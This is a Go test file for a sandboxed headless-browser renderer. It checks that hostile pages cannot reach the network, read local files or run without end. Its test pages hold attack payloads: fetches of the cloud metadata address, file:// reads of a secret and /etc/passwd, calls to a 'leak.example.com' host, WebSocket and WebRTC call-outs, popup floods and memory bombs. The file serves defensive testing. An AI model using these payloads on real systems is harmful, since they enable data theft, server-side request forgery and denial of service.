package render

import (
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// Pages that try every way out. None may open a connection, with the kernel's
// help and without it, and each must come to its end.
func TestHostilePagesConnectNowhere(t *testing.T) {
	c := newCanary(t)
	secret := filepath.Join(t.TempDir(), "secret.txt")
	if err := os.WriteFile(secret, []byte("geheim-4711"), 0o600); err != nil {
		t.Fatal(err)
	}
	pages := map[string]string{
		"metadata":    `<script>fetch("http://169.254.169.254/latest/meta-data/").catch(()=>{}); fetch("CANARY/fetch",{mode:"no-cors"}); new Image().src="CANARY/img"; var x=new XMLHttpRequest(); x.open("GET","CANARY/xhr"); x.send()</script>`,
		"elements":    `<img src=CANARY/img><link rel=stylesheet href=CANARY/css><script src=CANARY/js></script><iframe src=CANARY/frame></iframe><video src=CANARY/v></video><audio src=CANARY/a></audio><object data=CANARY/o></object><embed src=CANARY/e><style>@import "CANARY/i.css"; @font-face{font-family:f;src:url(CANARY/font)} body{font-family:f;background:url(CANARY/bg)}</style>字`,
		"hints":       `<link rel=dns-prefetch href="//leak.example.com"><link rel=preconnect href=CANARY><link rel=prefetch href=CANARY/p><link rel=preload as=script href=CANARY/pl><link rel=modulepreload href=CANARY/m><link rel=manifest href=CANARY/man><link rel=icon href=CANARY/icon><script type=speculationrules>{"prerender":[{"urls":["CANARY/pre"]}],"prefetch":[{"urls":["CANARY/pf"]}]}</script>`,
		"sockets":     `<iframe id=f></iframe><script>for (const w of [window, document.getElementById("f").contentWindow]) { try { new w.WebSocket("ws://ADDR/ws") } catch(e){} try { new w.EventSource("CANARY/es") } catch(e){} try { new w.WebTransport("https://ADDR/wt") } catch(e){} try { const p=new w.RTCPeerConnection({iceServers:[{urls:"stun:ADDR"},{urls:"turn:ADDR?transport=tcp",username:"a",credential:"b"}]}); p.createDataChannel("x"); p.createOffer().then(o=>p.setLocalDescription(o)) } catch(e){} }</script>`,
		"workers":     `<script>try{new Worker(URL.createObjectURL(new Blob(["fetch('CANARY/w',{mode:'no-cors'}); new WebSocket('ws://ADDR/ws')"])))}catch(e){} try{new SharedWorker(URL.createObjectURL(new Blob(["fetch('CANARY/sw')"])))}catch(e){} try{navigator.serviceWorker.register("/sw.js")}catch(e){} try{navigator.sendBeacon("CANARY/beacon","x")}catch(e){} fetch("CANARY/keep",{method:"POST",keepalive:true,body:"x",mode:"no-cors"})</script><a id=a href="#" ping=CANARY/ping>x</a><script>a.click()</script>`,
		"refresh":     `<meta http-equiv=refresh content="0;url=CANARY/meta"><p>bleibt`,
		"location":    `<p>bleibt<script>setTimeout(()=>location="CANARY/loc",50); setTimeout(()=>location="file:///etc/passwd",90)</script>`,
		"open":        `<p>bleibt<script>for(let i=0;i<50;i++){try{window.open("CANARY/open"+i)}catch(e){}} const a=document.createElement("a");a.href="CANARY/blank";a.target="_blank";a.click(); const f=document.createElement("form");f.action="CANARY/form";f.method="post";f.target="_blank";document.documentElement.append(f);f.submit()</script>`,
		"files":       `<iframe src="file://SECRET"></iframe><img src="file://SECRET"><iframe src="view-source:file://SECRET"></iframe><iframe src="chrome://version"></iframe><script>fetch("file://SECRET").then(r=>r.text()).then(t=>document.title=t); const x=new XMLHttpRequest();x.open("GET","file://SECRET");x.onload=()=>document.title=x.responseText;try{x.send()}catch(e){}</script>`,
		"redirect":    `<script src=/to-private></script><iframe src=/to-private></iframe><script>fetch("/to-private").catch(()=>{})</script>`,
		"dialogs":     `<script>alert(1);confirm(2);prompt(3);const f=document.createElement("iframe");document.documentElement.append(f);delete f.contentWindow.alert;for(let i=0;i<9;i++)f.contentWindow.alert("x".repeat(1e6));onbeforeunload=e=>{e.preventDefault();return "bleib"};print()</script><p>danach`,
		"download":    `<p>bleibt</p><a id=d href="data:application/octet-stream,abc" download=böse.exe>x</a><script>d.click(); for(let i=0;i<20;i++){const a=document.createElement("a");a.href=URL.createObjectURL(new Blob(["x"]));a.download="f"+i;a.click()} location="/download"</script>`,
		"frames":      `<script>for(let i=0;i<1000;i++){const f=document.createElement("iframe");f.src="/frame"+i;document.documentElement.append(f)}</script><p>danach`,
		"requests":    `<script>for(let i=0;i<5000;i++)fetch("/x"+i).catch(()=>{})</script><p>danach`,
		"navigations": `<script>location="/loop0"</script>`,
		"console":     `<script>for(let i=0;i<200;i++){console.log("x".repeat(1e7));Promise.reject(new Error("y".repeat(1e6)))}</script><p>danach`,
	}
	// What shows that a page did its worst: the RoundTripper saw it.
	asks := map[string][]string{
		"metadata": {"169.254.169.254", "ADDR/fetch", "ADDR/img", "ADDR/xhr"}, "elements": {"ADDR/js", "ADDR/css", "ADDR/frame", "ADDR/bg"},
		"redirect": {"/to-private", "ADDR/redirected"}, "refresh": {"ADDR/meta"}, "location": {"ADDR/loc"}, "navigations": {"/loop0"},
	}
	rt := &asked{reply: map[string]func(*http.Request) *http.Response{
		"/to-private": answer(302, "text/html", "", "Location", c.url+"/redirected"),
		"/download":   answer(200, "application/octet-stream", "MZ", "Content-Disposition", "attachment; filename=x.exe"),
		"/sw.js":      answer(200, "text/javascript", `fetch("`+c.url+`/sw")`),
	}}
	for i := range 40 {
		rt.reply[fmt.Sprintf("/loop%d", i)] = answer(200, "text/html; charset=utf-8", fmt.Sprintf(`<script>location="/loop%d"</script>`, i+1))
	}
	for _, shared := range []bool{false, true} {
		p := pool(t, func(o *Options) { o.SharedNetwork = shared })
		for name, body := range pages {
			if shared && strings.Contains(" frames requests navigations console dialogs download ", " "+name+" ") {
				continue // nothing in them depends on the network
			}
			t.Run(fmt.Sprintf("%s shared=%v", name, shared), func(t *testing.T) {
				body := strings.NewReplacer("CANARY", c.url, "ADDR", c.addr, "SECRET", secret).Replace(body)
				req := request(body, rt)
				req.Screenshot = true
				res, err := p.Render(t.Context(), req)
				if err != nil && !errors.Is(err, ErrTimeout) && !errors.Is(err, ErrCrashed) && !errors.Is(err, ErrMemory) {
					t.Errorf("ended with %v", err)
				}
				if err != nil {
					return // it cost its browser, which is an end as well
				}
				for _, want := range asks[name] {
					if want = strings.ReplaceAll(want, "ADDR", c.addr); !rt.saw(want) {
						t.Errorf("%s was not asked for: the page did not do what it was to", want)
					}
				}
				if (strings.Contains(body, "bleibt") || strings.Contains(body, "danach")) && !strings.Contains(string(res.DOM), "bleibt") && !strings.Contains(string(res.DOM), "danach") {
					t.Errorf("the page is gone: at %s, %.300s, %v", res.URL, res.DOM, err)
				}
				if strings.Contains(string(res.DOM), "geheim-4711") {
					t.Error("a local file was read")
				}
				if res.Requests > maxRequests {
					t.Errorf("%d requests", res.Requests)
				}
			})
		}
		if s := p.Stats(); s.Isolated == shared && !shared {
			t.Log("the kernel gives no empty network here; the flags alone were tried")
		}
		p.Close()
		wantNothingLeft(t)
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if len(c.hits) > 0 {
		t.Errorf("%d connections were made: %v", len(c.hits), c.hits)
	}
}

// Pages that never end or eat the memory cost their browser and nothing else.
func TestHostilePagesEnd(t *testing.T) {
	p := pool(t, func(o *Options) { o.Timeout, o.Memory = 25*time.Second, 500<<20 })
	for name, c := range map[string]struct {
		body string
		want []error
	}{
		"loop":   {`<p>x</p><script>for(;;){}</script>`, []error{ErrTimeout}},
		"later":  {`<p>x</p><script>onload=()=>setTimeout(()=>{for(;;){}},0)</script>`, []error{ErrTimeout}},
		"memory": {`<script>const all=[];for(let i=0;i<100;i++){const b=new Uint8Array(5e7);b.fill(7);all.push(b)}</script>`, []error{ErrMemory, ErrCrashed}},
		"heap":   {`<script>let s=[];for(;;){s.push({a:new Array(1000).fill(Math.random())})}</script>`, []error{ErrMemory, ErrCrashed}},
		"dom":    {`<p>x</p><script>document.documentElement.setAttribute("x","字".repeat(9e6))</script>`, []error{ErrTooLarge}},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := p.Render(t.Context(), request(c.body, &asked{}))
			for _, want := range c.want {
				if errors.Is(err, want) {
					return
				}
			}
			t.Errorf("ended with %v, want one of %v", err, c.want)
		})
	}
	res, err := p.Render(t.Context(), request("<p>weiter", &asked{}))
	if err != nil || !strings.Contains(string(res.DOM), "weiter") {
		t.Errorf("after that: %s, %v", res.DOM, err)
	}
	p.Close()
	wantNothingLeft(t)
}
